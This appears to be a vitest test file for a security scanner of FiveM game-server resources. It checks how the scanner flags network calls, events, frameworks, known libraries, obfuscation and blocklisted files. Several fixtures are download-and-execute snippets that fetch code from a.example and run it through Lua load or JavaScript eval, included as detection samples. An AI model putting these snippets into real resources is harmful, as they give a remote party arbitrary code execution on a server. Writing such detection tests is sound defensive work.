import { expect, test } from 'vitest'

import { manifest, scanFiles as scan } from '#test-support/scan-files.ts'

const page = `${manifest}ui_page 'ui/index.html'\nfile 'ui/app.js'`

test('events of a page and its callbacks are none of the network, whatever registers them', () => {
  const { capabilities, perResource } = scan({
    'fxmanifest.lua': page,
    'ui/app.js': [
      "window.addEventListener('message', ({ data }) => show(data))",
      "document.querySelector('#a').addEventListener('click', () => close())",
      "on('keydown', close)",
    ].join('\n'),
    'client.lua': [
      "RegisterNUICallback('close', function(_, cb) cb(1) end)",
      "RegisterNuiCallback('open', function(_, cb) cb(1) end)",
      "AddEventHandler('onResourceStop', function() end)",
      "RegisterNetEvent('shop:open', function() end)",
    ].join('\n'),
    'server.lua': "lib.callback.register('shop:price', function() return 1 end)",
  })

  const events = capabilities.filter(({ kind }) => kind === 'events')
  expect(new Map(events.map(({ side, values }) => [side, values]))).toEqual(
    new Map([
      ['client', ['shop:open']],
      ['server', ['shop:price']],
    ]),
  )
  expect(perResource.get('')?.events.names.toSorted()).toEqual(['shop:open', 'shop:price'])
})

test.each([
  ['fetch(`https://${GetParentResourceName()}/close`, { method: "POST" })', []],
  [
    "const name = window.GetParentResourceName ? window.GetParentResourceName() : 'nui-frame-app'\nfetch(`https://${name}/close`)",
    [],
  ],
  ["$.post('https://shop/close', JSON.stringify({}))", []],
  ["$.ajax({ url: 'http://shop/close', type: 'POST' })", []],
  ["fetch('https://cfx-nui-inventory/images/bread.png')", []],
  ["fetch('./locales/en.json')", []],
  ["fetch('https://api.example.com/rates')", ['api.example.com']],
  ['fetch(`https://api.example.com/${id}`)', ['api.example.com']],
  ['fetch(settings.url)', ['URL computed']],
  ['axios.interceptors.request.use((config) => config)', []],
])('a page that runs %j calls out to %j', (code, hosts) => {
  const { capabilities } = scan({ 'fxmanifest.lua': page, 'ui/app.js': code })

  expect(capabilities.filter(({ kind }) => kind === 'calls-out').flatMap(({ values }) => values)).toEqual(
    hosts,
  )
})

test('a call of the server to a host without a domain is one to another host', () => {
  const { capabilities } = scan({
    'fxmanifest.lua': manifest,
    'server.lua': "PerformHttpRequest('http://backend:3000/x', print)",
  })

  expect(capabilities).toMatchObject([{ kind: 'calls-out', values: ['backend'] }])
})

test.each([
  [
    'a check of its state',
    {
      'server.lua':
        "if GetResourceState('es_extended') == 'started' then ESX = exports.es_extended:getSharedObject() end",
    },
    ['es_extended'],
  ],
  ['a bridge', { 'bridge/esx/server.lua': 'ESX = exports.es_extended:getSharedObject()' }, ['es_extended']],
  [
    'a file of the framework',
    { 'server/esx.lua': 'ESX = exports.es_extended:getSharedObject()' },
    ['es_extended'],
  ],
  [
    'code that waits for it',
    {
      'server.lua':
        "while GetResourceState('es_extended') ~= 'started' do Wait(0) end ESX = exports.es_extended:getSharedObject()",
    },
    [],
  ],
  [
    'code that waits for it in another loop',
    {
      'server.lua':
        "repeat Wait(0) until GetResourceState('es_extended') == 'started' ESX = exports.es_extended:getSharedObject()",
    },
    [],
  ],
  [
    'a resource of a bridge',
    { 'bridge/nd.lua': 'exports.ND_Core:getPlayer()', 'server.lua': 'exports.es_extended:getSharedObject()' },
    ['ND_Core'],
  ],
  [
    'a bridge and other code',
    {
      'bridge/esx.lua': 'ESX = exports.es_extended:getSharedObject()',
      'server.lua': 'exports.es_extended:getSharedObject()',
    },
    [],
  ],
])('a framework that is used by %s is optional: %j %j', (_, files, optional) => {
  const { perResource } = scan({ 'fxmanifest.lua': `${manifest}server_script '**/*.lua'`, ...files })

  expect(perResource.get('')).toMatchObject({ frameworks: ['esx'], optional })
})

test('a framework that the code only mentions is not used', () => {
  const { perResource } = scan({
    'fxmanifest.lua': manifest,
    'server.lua':
      "local blocked = { ['qb-core'] = true }\nlocal name = GetInvokingResource() or 'es_extended'",
  })

  expect(perResource.get('')?.frameworks).toEqual([])
})

test('exports of the modules of a page are none of resources', () => {
  const { capabilities } = scan({ 'fxmanifest.lua': page, 'ui/app.js': 'exports.escape(exports.tags())' })

  expect(capabilities.map(({ kind }) => kind)).toEqual(['page'])
})

/** server.lua of PolyZone 2.5.0, by Michael Afrin, under the MIT licence. */
const polyZone = `local eventPrefix = '__PolyZone__:'

function triggerZoneEvent(eventName, ...)
  TriggerClientEvent(eventPrefix .. eventName, -1, ...)
end

RegisterNetEvent("PolyZone:TriggerZoneEvent")
AddEventHandler("PolyZone:TriggerZoneEvent", triggerZoneEvent)

exports("TriggerZoneEvent", triggerZoneEvent)`

test.each([
  ['a file', polyZone],
  ['line ends of Windows', polyZone.replaceAll('\n', '\r\n')],
  ['another end', `\ufeff${polyZone}\n\n`],
  ['a comment for a source map', `${polyZone}\n//# sourceMappingURL=server.lua.map\n`],
])('a known library with %s is named, and nothing is listed of it', (_, text) => {
  const { capabilities, known } = scan({ 'server.lua': text, 'fxmanifest.lua': manifest })

  expect(known).toEqual([{ path: 'server.lua', name: 'PolyZone 2.5.0' }])
  expect(capabilities).toEqual([])
})

test('a changed file of a known library is scanned', () => {
  const { capabilities, known } = scan({
    'server.lua': polyZone.replace('-1', 'source'),
    'fxmanifest.lua': manifest,
  })

  expect(known).toEqual([])
  expect(capabilities.map(({ kind }) => kind)).toContain('events')
})

test.each([
  ['unchanged', polyZone, 'low', 'chat, of unchanged files'],
  ['changed', polyZone.replace('-1', 'source'), 'medium', 'chat'],
])('a resource with the name of one of the server and %s files', (_, text, severity, detail) => {
  const { findings } = scan({
    'chat/fxmanifest.lua': manifest,
    'chat/server.lua': text,
    'shop/fxmanifest.lua': manifest,
  })

  expect(findings).toMatchObject([{ rule: 'system-resource', severity, detail }])
})

test('a blocklisted file is found even where its library is known', () => {
  const { findings } = scan(
    { 'server.lua': polyZone },
    { hashes: { 'server.lua': 'cd'.repeat(16) }, blocklist: { files: ['cd'.repeat(16)] } },
  )

  expect(findings.map(({ rule }) => rule)).toEqual(['blocklisted-file'])
})

test('what is said of a whole file has no line', () => {
  const { findings, capabilities } = scan(
    { 'lib.dll': '', 'a.lua': `-- Luraph\nlocal a = 1` },
    { types: { 'lib.dll': 'exe' } },
  )

  expect(findings.map(({ rule, line }) => `${rule} ${line}`).toSorted()).toEqual([
    'binary null',
    'obfuscated null',
  ])
  expect(capabilities.flatMap(({ places }) => places.map(({ line }) => line))).toEqual([null, null])
})

test.each([
  [
    "PerformHttpRequest('https://a.example/code', function(_, body) load(body)() end)",
    'https://a.example/code, run by load',
  ],
  [
    "PerformHttpRequest('https://a.example/1', print)\nPerformHttpRequest('https://b.example/2', function(_, body) load(body)() end)",
    'https://a.example/1 or another URL, run by load',
  ],
  ['PerformHttpRequest(Config.Url, function(_, body) load(body)() end)', 'run by load'],
])('a download that is run is found with its URL: %s', (code, detail) => {
  const { findings } = scan({ 'fxmanifest.lua': manifest, 'server.lua': code })

  expect(findings.find(({ rule }) => rule === 'runs-downloaded-code')?.detail).toBe(detail)
})

/** `lowered` if its text says that no manifest loads the file. */
function severities(files: Record<string, string>) {
  return scan(files).findings.map(({ path, severity, side, detail }) => {
    const isLowered = detail?.endsWith('not loaded by a manifest')
    return `${path} ${severity} ${side}${isLowered ? ' lowered' : ''}`
  })
}

test('code that no manifest loads is one step lower, except for Lua of an archive without a manifest', () => {
  const lua = "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)"
  const javascript = "fetch('https://a.example').then((answer) => answer.text()).then(eval)"

  expect(severities({ 'a.lua': lua, 'b.js': javascript, 'dist/c.js': javascript })).toEqual([
    'a.lua high server',
    'b.js medium none lowered',
    'dist/c.js medium none lowered',
  ])
  expect(severities({ 'r/fxmanifest.lua': manifest, 'a.lua': lua, 'r/b.js': javascript })).toEqual([
    'r/b.js medium none lowered',
    'a.lua medium none lowered',
  ])
})

test.each([
  ['is only a copy', `print('hello')`, 'medium none lowered'],
  ['is read', `load(LoadResourceFile(GetCurrentResourceName(), 'old/a.lua'))()`, 'high none'],
  ['may be read', `load(LoadResourceFile(GetCurrentResourceName(), pick() .. '.lua'))()`, 'high none'],
  ['is opened', `io.open(GetResourcePath(GetCurrentResourceName()) .. '/old/a.lua')`, 'high none'],
  ['is required', `require 'old.a'`, 'high none'],
  ['may be required', `lib.load(pick())`, 'high none'],
])('Lua of a resource that %s', (_, text, expected) => {
  const old = "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)"
  const files = { 'r/fxmanifest.lua': manifest, 'r/server.lua': text, 'r/old/a.lua': old }

  expect(severities(files).find((line) => line.startsWith('r/old/a.lua'))).toBe(`r/old/a.lua ${expected}`)
})

test('Lua that is not valid counts less where nothing loads it', () => {
  const files = { 'r/fxmanifest.lua': manifest, 'r/server.lua': 'if (', 'r/notes.lua': 'if (' }

  expect(severities(files)).toEqual(['r/server.lua medium server', 'r/notes.lua low none'])
})

test('a manifest that loads nothing makes no file count less, except for one inside of another resource', () => {
  const manifestOnly = `fx_version 'cerulean'\ngame 'gta5'\nserver_scripts {{ 'server.lua' }}`

  expect(severities({ 'r/fxmanifest.lua': manifestOnly, 'r/server.lua': 'if (' })).toContain(
    'r/server.lua medium none',
  )
  expect(
    severities({
      'r/fxmanifest.lua': manifest,
      'r/old/fxmanifest.lua': manifestOnly,
      'r/old/server.main.lua': 'if (',
    }),
  ).toContain('r/old/server.main.lua low none')
})

test('names of resources of the server do not make a pack a server', () => {
  const names = ['chat', 'hardcap', 'spawnmanager']
  const { findings } = scan(Object.fromEntries(names.map((name) => [`${name}/fxmanifest.lua`, manifest])))

  expect(findings.map(({ severity, path }) => `${severity} ${path}`)).toEqual(
    names.map((name) => `medium ${name}/fxmanifest.lua`),
  )
})

test('a page that is too complex says so, and its findings count less', () => {
  const download = "fetch('https://a.example').then((answer) => answer.text()).then(eval)\n"
  const manifestOfPage = `fx_version 'cerulean'\ngame 'gta5'\nui_page 'a.html'\nfiles { '*.js' }`
  const read = (text: string) =>
    scan({ 'fxmanifest.lua': manifestOfPage, 'a.js': text }).findings.map(
      ({ rule, severity }) => `${severity} ${rule}`,
    )

  const library = `var data = [${'{}, '.repeat(300_000)}]`

  expect(read(download)).toEqual(['medium runs-downloaded-code'])
  expect(read(download + library)).toEqual(['medium not-fully-read', 'low runs-downloaded-code'])
})

test('a module of a computed name is one of its own resource', () => {
  const manifestOfModules = `fx_version 'cerulean'\ngame 'gta5'\nserver_script 'main.js'`
  const build = "fetch('https://a.example').then((answer) => answer.text()).then(eval)"
  const files = {
    'a/fxmanifest.lua': manifestOfModules,
    'a/main.js': 'require(pick())',
    'a/lib/x.js': build,
    'b/fxmanifest.lua': manifestOfModules,
    'b/main.js': '',
    'b/tools/x.js': build,
  }

  expect(severities(files)).toEqual([
    'a/lib/x.js high none',
    'b/tools/x.js medium none lowered',
    'a/main.js low server',
  ])
})
